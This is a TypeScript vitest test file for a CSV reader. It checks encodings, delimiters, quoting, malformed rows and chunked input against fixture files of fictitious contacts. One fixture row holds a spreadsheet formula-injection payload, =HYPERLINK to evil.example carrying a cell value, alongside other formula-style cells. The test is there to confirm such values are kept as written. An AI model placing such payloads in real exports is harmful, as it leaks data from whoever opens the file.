import { describe, expect, it } from 'vitest';
import { inspectInput } from '../../../src/input/inspect-input.js';
import { readCsv, type ReadCsvOptions } from '../../../src/input/read-csv.js';
import { collect, fixtureBytes, lineAndCells, openChunked, openFixture } from './input-helpers.js';

const HEADERS = ['user_id', 'name', 'email', 'phone', 'company'];

/** Reads a fixture the way the CLI will: inspect for the encoding, then parse. */
async function readFixture(name: string, options: Partial<ReadCsvOptions> = {}) {
  const open = openFixture(name);
  const { encoding } = await inspectInput(open);
  const reader = await readCsv(open, { encoding, ...options });
  const records = await collect(reader);
  return { reader, records };
}

describe('readCsv on the fixtures', () => {
  it('bom-utf8.csv: the BOM does not end up in the first header', async () => {
    const { reader, records } = await readFixture('bom-utf8.csv');
    expect(reader.headers).toEqual(HEADERS);
    expect(reader.headerLine).toBe(1);
    expect(lineAndCells(records)).toEqual([
      [2, ['u1001', 'José Álvarez', 'jose.alvarez@example.com', '+34 612 345 678', 'Telefónica']],
      [3, ['u1002', 'Zoë Ng', 'zoe.ng@example.com', '+44 20 7946 0958', 'Acme Ltd']],
      [4, ['u1003', 'Ali Demir', 'ali.demir@example.com', '', 'Initech']],
    ]);
  });

  it('crlf.csv: no CR is left at the end of a last cell, empty or not', async () => {
    const { reader, records } = await readFixture('crlf.csv');
    expect(reader.headers).toEqual(['User ID', 'Name', 'E-mail', 'Phone', 'Company']);
    expect(lineAndCells(records)).toEqual([
      [2, ['u2001', 'Anna Kowalska', 'anna.kowalska@example.com', '+48 601 234 567', 'Globex']],
      [3, ['u2002', 'Ben Carter', 'ben.carter@example.com', '', '']],
      [4, ['u2003', 'Chloé Martin', 'chloe.martin@example.com', '+33 6 12 34 56 78', 'Martin & Fils']],
    ]);
  });

  it('semicolon-windows-1252.csv: sniffs ";" and decodes Windows-1252, curly quotes included', async () => {
    const { reader, records } = await readFixture('semicolon-windows-1252.csv');
    expect(reader).toMatchObject({ delimiter: ';', delimiterSource: 'sniffed', headers: HEADERS });
    expect(lineAndCells(records)).toEqual([
      [2, ['u3001', 'François Dupont', 'francois.dupont@example.com', '+33 1 23 45 67 89', 'Société Générale']],
      [3, ['u3002', 'Jürgen Müller', 'juergen.mueller@example.com', '+49 30 1234567', 'Müller & Söhne GmbH']],
      // 0x92 and 0x93/0x94 are ’ “ ” in Windows-1252 but control characters in Latin-1.
      [4, ['u3003', 'Siobhán O’Brien', 'siobhan.obrien@example.com', '', 'Café “Zoë”']],
    ]);
  });

  it('excel-sep-line.csv: the sep= line names the delimiter and is not the header', async () => {
    const { reader, records } = await readFixture('excel-sep-line.csv');
    expect(reader).toMatchObject({ delimiter: ';', delimiterSource: 'sep-line', headers: HEADERS, headerLine: 2 });
    expect(lineAndCells(records)).toEqual([
      [3, ['u4001', 'Maria Rossi', 'maria.rossi@example.com', '+39 06 1234 5678', 'Rossi, Bianchi & Co']],
      [4, ['u4002', 'Lars Berg', 'lars.berg@example.com', '', 'Nordic AB']],
    ]);
  });

  it.each(['utf16le-bom.csv', 'utf16be-bom.csv'])('%s: decodes UTF-16 by its BOM', async (name) => {
    const { reader, records } = await readFixture(name);
    expect(reader.headers).toEqual(HEADERS);
    expect(lineAndCells(records)).toEqual([
      [2, ['u5001', 'Ünal Yılmaz', 'unal.yilmaz@example.com', '+90 212 555 0101', 'Koç Holding']],
      [3, ['u5002', '山田 太郎', 'taro.yamada@example.com', '+81 3-1234-5678', '山田商事']],
    ]);
  });

  it('quoted-newlines.csv: a record starts on its physical line, after multi-line records', async () => {
    const { records } = await readFixture('quoted-newlines.csv');
    expect(lineAndCells(records)).toEqual([
      [2, ['u6001', 'Grace Hopper', 'grace.hopper@example.com', '', 'Navy Research Lab\nArlington']],
      [4, ['u6002', 'Alan Turing', 'alan.turing@example.com', '+44 161 555 0100', 'Bletchley Park']],
      [5, ['u6003', 'Ada\nLovelace', 'ada.lovelace@example.com', '', 'Analytical Engines\n"Babbage & Co"\nLondon']],
      [9, ['u6004', 'Linus Pauling', 'linus.pauling@example.com', '', 'Caltech']],
    ]);
  });

  it('ragged-rows.csv: rows with too few or too many fields are malformed, not dropped', async () => {
    const { records } = await readFixture('ragged-rows.csv');
    expect(records).toEqual([
      { kind: 'record', line: 2, cells: ['u7001', 'Omar Haddad', 'omar.haddad@example.com', '+971 4 555 0101', 'Emaar'] },
      {
        kind: 'malformed',
        line: 3,
        cells: ['u7002', 'Priya Nair', 'priya.nair@example.com', 'Infosys'],
        reason: 'has 4 fields but the header has 5',
      },
      {
        kind: 'malformed',
        line: 4,
        cells: ['u7003', 'Tom Baker', 'tom.baker@example.com', '+1 212 555 0199', 'Globex', ' Inc.'],
        reason: 'has 6 fields but the header has 5',
      },
      { kind: 'record', line: 5, cells: ['u7004', 'Kim Lee', 'kim.lee@example.com', '', 'Samsung'] },
    ]);
  });

  it('broken-quote.csv: an undoubled quote makes that record malformed and the next one is read normally', async () => {
    const { records } = await readFixture('broken-quote.csv');
    expect(records).toEqual([
      { kind: 'record', line: 2, cells: ['u8001', 'Rita Moreno', 'rita.moreno@example.com', '', 'Broadway Inc'] },
      {
        kind: 'malformed',
        line: 3,
        cells: ['u8002', 'Robert Bobby" Tables"', 'bobby.tables@example.com', '', 'XKCD'],
        reason: 'text follows the closing quote of field 2 (name) on line 3; a quote inside a quoted value must be doubled ("")',
      },
      { kind: 'record', line: 4, cells: ['u8003', 'Sam Wu', 'sam.wu@example.com', '+1 415 555 0123', 'Wu Labs'] },
    ]);
  });

  it('unclosed-quote.csv: the rest of the file is one malformed record at the line the quote opened', async () => {
    const { records } = await readFixture('unclosed-quote.csv');
    expect(records.map((record) => [record.kind, record.line])).toEqual([
      ['record', 2],
      ['record', 3],
      ['malformed', 4],
    ]);
    expect(records[2]).toEqual({
      kind: 'malformed',
      line: 4,
      cells: [
        'u8103',
        'Eve Stone',
        'eve.stone@example.com',
        '',
        'Stone Quarry\nu8104,Ivan Petrov,ivan.petrov@example.com,,Petrov LLC\nu8105,Lena Berg,lena.berg@example.com,,Berg AG\n',
      ],
      reason: 'quote opened on line 4 is never closed, so the rest of the file was read into this record',
    });
  });

  it.each([
    [
      'leading-zeros.csv',
      [
        ['000123', '07700 900123'],
        ['0042', '0044 20 7946 0000'],
        ['00000', '0030 210 1234567'],
      ],
    ],
    [
      'scientific-notation.csv',
      [
        ['1.23457E+11', '4.47701E+11'],
        ['123456789012', '+82 2 555 0101'],
        ['9.87654E+15', ''],
      ],
    ],
  ])('%s: values stay text exactly as written', async (name, expected) => {
    const { records } = await readFixture(name);
    expect(records.map((record) => [record.cells[0], record.cells[3]])).toEqual(expected);
  });

  it('duplicate-user-id.csv: both rows come through (dedupe is a later stage)', async () => {
    const { records } = await readFixture('duplicate-user-id.csv');
    expect(records.map((record) => [record.kind, record.line, record.cells[0]])).toEqual([
      ['record', 2, 'u9001'],
      ['record', 3, 'u9002'],
      ['record', 4, 'u9001'],
      ['record', 5, 'u9003'],
    ]);
  });

  it("formula-cells.csv: not a report of ours, so every ' stays as written", async () => {
    const { records } = await readFixture('formula-cells.csv');
    expect(lineAndCells(records)).toEqual([
      [2, ['u1101', 'Sara Cole', 'sara.cole@example.com', "'+44 20 7946 0001", "'=Cole & Partners"]],
      [3, ['u1102', '=HYPERLINK("http://evil.example/?x="&A1)', 'tim.ray@example.com', '+44 20 7946 0002', '@SUM(1+1)']],
      [4, ['u1103', "'-Una Quill", 'una.quill@example.com', "'-", "'@quill"]],
      [5, ['u1104', "Vic O'Neil", "'vic@example.com", "'0800 123", "'x'"]],
    ]);
  });

  it("apostrophe-user-id.csv: a user_id starting with '= is kept byte for byte", async () => {
    const { records } = await readFixture('apostrophe-user-id.csv');
    expect(lineAndCells(records)).toEqual([
      [2, ["'=7", 'Gil Hart', 'gil.hart@example.com', '', 'Hart Ltd']],
      [3, ["'+44", 'Ida Ives', 'ida.ives@example.com', "'+44 20 7946 0003", "'=Ives & Co"]],
    ]);
  });

  it('utf8-with-1252-row.csv: UTF-8; the one Windows-1252 row is rejected, the others keep their accents', async () => {
    const { reader, records } = await readFixture('utf8-with-1252-row.csv');
    expect(reader.headers).toEqual(HEADERS);
    expect(records.map((record) => [record.kind, record.line, record.cells[1], record.cells[4]])).toEqual([
      ['record', 2, 'José Müller', 'Müller GmbH'],
      ['record', 3, 'Ann Lee', 'Lee & Co'],
      ['malformed', 4, 'Lea Roux', 'Caf\\xE9 Roux'],
      ['record', 5, 'Zoë Ng', 'Ng Ltd'],
    ]);
    expect(records[2]).toMatchObject({ code: 'invalid_encoding', reason: expect.stringContaining('"Caf\\xE9 Roux"') });
  });

  it('utf16le-no-bom.csv: UTF-16 LE recognised by its NUL bytes', async () => {
    const { reader, records } = await readFixture('utf16le-no-bom.csv');
    expect(reader.headers).toEqual(HEADERS);
    expect(lineAndCells(records)).toEqual([
      [2, ['u1901', 'Ünal Yılmaz', 'unal.yilmaz@example.com', '', 'Koç Holding']],
      [3, ['u1902', 'Ann Lee', 'ann.lee@example.com', '', 'Lee & Co']],
    ]);
  });

  it('lone-cr.csv: a lone CR ends a record outside quotes and is data inside them; lines count it either way', async () => {
    const { records } = await readFixture('lone-cr.csv');
    expect(records.map((record) => [record.kind, record.line, record.cells[0], record.cells[4]])).toEqual([
      ['record', 2, 'u2101', 'Lee & Co'],
      ['record', 3, 'u2102', 'Chan AB'],
      ['record', 4, 'u2103', 'Dove Inc'],
      ['record', 5, 'u2104', 'Eck\rWorks'],
      ['record', 7, 'u2105', 'Fox SA'],
    ]);
  });

  it('report-columns.csv: a fixed rejects.csv reads back with its own columns and unguarded cells', async () => {
    const { reader, records } = await readFixture('report-columns.csv');
    expect(reader.headers).toEqual([...HEADERS, '_line', '_reason_code', '_reason', '_extra']);
    expect(lineAndCells(records)).toEqual([
      [
        2,
        [
          'u1201',
          'Wendy Xu',
          'wendy.xu@example.com',
          '+86 10 5555 0101',
          'Xu Trading',
          '4',
          'invalid_email',
          'email "wendy.xu@" has no domain',
          '',
        ],
      ],
      [3, ['u1202', 'Yusuf Ozturk', 'yusuf.ozturk@example.com', '', '=Ozturk Ltd', '9', 'missing_name', 'name is empty', '']],
    ]);
  });

  it('empty.csv: 0 bytes is an input error', async () => {
    await expect(readFixture('empty.csv')).rejects.toMatchObject({ code: 'HCI_INPUT_EMPTY', message: 'the input file is empty' });
  });

  it('header-only.csv: headers and no records', async () => {
    const { reader, records } = await readFixture('header-only.csv');
    expect(reader.headers).toEqual(HEADERS);
    expect(records).toEqual([]);
    expect(reader.stats()).toEqual({ blankLines: 0, emptyRecords: 0 });
  });

  it('missing-email-column.csv: the input layer reads it as is (mapping reports the column)', async () => {
    const { reader, records } = await readFixture('missing-email-column.csv');
    expect(reader.headers).toEqual(['user_id', 'name', 'phone', 'company']);
    expect(records.map((record) => record.kind)).toEqual(['record', 'record']);
  });

  it('blank-lines.csv: blank lines are skipped and counted but keep their place in the line numbers', async () => {
    const { reader, records } = await readFixture('blank-lines.csv');
    expect(reader.headerLine).toBe(2);
    expect(records.map((record) => [record.line, record.cells[0]])).toEqual([
      [3, 'u1401'],
      [6, 'u1402'],
      [8, 'u1403'],
    ]);
    expect(reader.stats()).toEqual({ blankLines: 5, emptyRecords: 0 });
  });

  it('empty-rows.csv: rows of delimiters only are skipped and counted', async () => {
    const { reader, records } = await readFixture('empty-rows.csv');
    expect(records.map((record) => [record.kind, record.line])).toEqual([
      ['record', 2],
      ['record', 4],
    ]);
    expect(reader.stats()).toEqual({ blankLines: 0, emptyRecords: 3 });
  });

  it.each([
    ['tab-delimited.tsv', '\t', ['u1601', 'Gina Ortiz', 'gina.ortiz@example.com', '+52 55 5555 0101', 'Ortiz, Ruiz y Asociados']],
    ['pipe-delimited.csv', '|', ['u1701', 'Iris Moon', 'iris.moon@example.com', '+1 303 555 0101', 'Moon, Sun & Stars']],
  ])('%s: sniffs the delimiter from the header', async (name, delimiter, firstCells) => {
    const { reader, records } = await readFixture(name);
    expect(reader).toMatchObject({ delimiter, delimiterSource: 'sniffed', headers: HEADERS });
    expect(records[0]).toEqual({ kind: 'record', line: 2, cells: firstCells });
    expect(records[1]?.cells[4]).toBe(name.endsWith('.tsv') ? 'Lima Ltda' : 'Reid | Partners');
  });

  const ALL = [
    'bom-utf8.csv',
    'crlf.csv',
    'semicolon-windows-1252.csv',
    'excel-sep-line.csv',
    'utf16le-bom.csv',
    'utf16be-bom.csv',
    'quoted-newlines.csv',
    'ragged-rows.csv',
    'broken-quote.csv',
    'unclosed-quote.csv',
    'formula-cells.csv',
    'report-columns.csv',
    'blank-lines.csv',
    'empty-rows.csv',
    'pipe-delimited.csv',
    'utf8-with-1252-row.csv',
    'utf16le-no-bom.csv',
    'lone-cr.csv',
    'apostrophe-user-id.csv',
  ];

  it.each(ALL)('%s: the same records whatever the chunk boundaries (1, 2, 3 and 5 bytes)', async (name) => {
    const whole = await readFixture(name);
    const { encoding } = await inspectInput(openFixture(name));
    for (const size of [1, 2, 3, 5]) {
      const reader = await readCsv(openChunked(fixtureBytes(name), size), { encoding });
      expect({ headers: reader.headers, records: await collect(reader), stats: reader.stats() }).toEqual({
        headers: whole.reader.headers,
        records: whole.records,
        stats: whole.reader.stats(),
      });
    }
  });
});
